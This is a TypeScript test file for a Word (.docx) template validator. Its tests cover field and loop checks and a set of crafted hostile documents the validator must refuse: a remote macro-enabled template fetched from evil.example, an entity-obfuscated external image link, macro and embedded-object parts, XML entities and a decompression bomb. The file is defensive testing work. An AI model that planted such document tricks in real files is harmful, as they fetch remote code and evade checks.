import * as docx from 'docx'
import PizZip from 'pizzip'
import { describe, expect, test } from 'vitest'
import type { TemplateFields } from './model.ts'
import { faultText, templateFaults, templateWord, textOf } from './public.ts'

const fields: TemplateFields = {
  nämnd: 'text',
  rubrik: 'text',
  enheter: { enhet: 'text', klass: 'text' },
}
const needed = ['nämnd', 'enheter › enhet']

async function template(...lines: readonly string[]): Promise<Uint8Array> {
  const children = lines.map((text) => new docx.Paragraph({ text }))
  return docx.Packer.toBuffer(new docx.Document({ sections: [{ children }] }))
}

async function faults(...lines: readonly string[]): Promise<readonly string[]> {
  const checked = await templateFaults(await template(...lines), fields, needed)
  if (!checked.ok) throw new Error(checked.reason)
  return checked.value.map(({ kind, field }) => `${kind} ${field}`)
}

const good = ['Till {nämnd}', '{#enheter}', '{enhet} i {klass}, till {nämnd}', '{/enheter}']

describe('the check', () => {
  test('finds nothing against a good template, with fields from around inside a loop', async () => {
    expect(await faults(...good)).toEqual([])
  })

  test('names all unknown and missing fields at once', async () => {
    expect(await faults('{namnd} {constructor}', '{#enheter}', '{ålder}', '{/enheter}')).toEqual([
      'unknown namnd',
      'unknown constructor',
      'unknown enheter › ålder',
      'missing nämnd',
      'missing enheter › enhet',
    ])
  })

  test('knows no expressions and no raw markup', async () => {
    expect(await faults(...good, '{@rubrik}')).toEqual(['unknown rubrik'])
    expect(await faults(...good, '{rubrik.length}')).toEqual(['unknown rubrik.length'])
  })

  test.each([
    ['a loop without an end', [...good, '{#enheter}'], 'unclosed-loop enheter'],
    ['an end without a loop', [...good, '{/enheter}'], 'unopened-loop enheter'],
    ['half a tag', [...good, 'Hej {rubrik'], 'broken-tag rubrik'],
  ])('tells %s', async (_, lines, fault) => {
    expect(await faults(...lines)).toContain(fault)
  })

  test('tells each fault as a sentence', () => {
    expect(faultText('sv', { kind: 'unknown', field: 'namnd' })).toBe(
      'Fältet «namnd» finns inte. Rätta stavningen eller ta bort det.',
    )
  })
})

describe('what is hostile is refused before it is opened', () => {
  type Change = (zip: PizZip) => void

  async function spoiled(change: Change) {
    const zip = new PizZip(await template(...good))
    change(zip)
    return templateFaults(
      zip.generate({ type: 'uint8array', compression: 'DEFLATE' }),
      fields,
      needed,
    )
  }
  const relations = 'word/_rels/document.xml.rels'
  const adding =
    (relation: string): Change =>
    (zip) => {
      const text = zip.file(relations)?.asText() ?? ''
      zip.file(relations, text.replace('</Relationships>', `${relation}</Relationships>`))
    }

  const put =
    (name: string, text: string): Change =>
    (zip) => {
      zip.file(name, text)
    }

  test.each([
    [
      'a template fetched from the net',
      adding(
        '<Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>',
      ),
      'points-outside',
    ],
    [
      'a picture fetched from the net, its mode spelled with a number',
      adding(
        '<Relationship Id="x" Type="http://x/image" Target="https://evil.example/a.png" TargetMode="&#69;xternal"/>',
      ),
      'points-outside',
    ],
    ['macros', put('word/vbaProject.bin', 'x'), 'has-macros'],
    ['an embedded file', put('word/embeddings/oleObject1.bin', 'x'), 'has-active-parts'],
    ['entities', put('word/settings.xml', '<!DOCTYPE x [<!ENTITY a "b">]><x/>'), 'broken'],
    [
      'text that unpacks to much more than a paper',
      put('word/big.xml', ' '.repeat(13 * 1024 * 1024)),
      'unpacks-too-large',
    ],
  ] as const)('%s', async (_, change, reason) => {
    expect(await spoiled(change)).toEqual({ ok: false, reason })
  })

  test('a link that one clicks is no danger', async () => {
    const link =
      '<Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.se" TargetMode="External"/>'
    expect(await spoiled(adding(link))).toEqual({ ok: true, value: [] })
  })

  test.each([
    ['a text', new TextEncoder().encode('hej'), 'not-what-it-says'],
    ['nothing', new Uint8Array(), 'empty'],
    ['half a file', new Uint8Array([0x50, 0x4b, 3, 4, 0, 0]), 'broken'],
  ])('%s', async (_, bytes, reason) => {
    expect(await templateFaults(bytes, fields, needed)).toEqual({ ok: false, reason })
  })
})

test('texts are filled in to the letter, and markup or tags in them do nothing', async () => {
  const enheter = [
    { enhet: 'Förskolan <b>Tallen</b> & {nämnd}', klass: 'förskola' },
    { enhet: 'Ängsö', klass: 'skola' },
  ]
  const data = { nämnd: 'Bromma stadsdelsnämnd', enheter }
  const text = await textOf(await templateWord(await template(...good), data), 'ifylld.docx')
  expect(text.ok && text.value.text.trim().split(/\n+/)).toEqual([
    'Till Bromma stadsdelsnämnd',
    'Förskolan <b>Tallen</b> & {nämnd} i förskola, till Bromma stadsdelsnämnd',
    'Ängsö i skola, till Bromma stadsdelsnämnd',
  ])
})
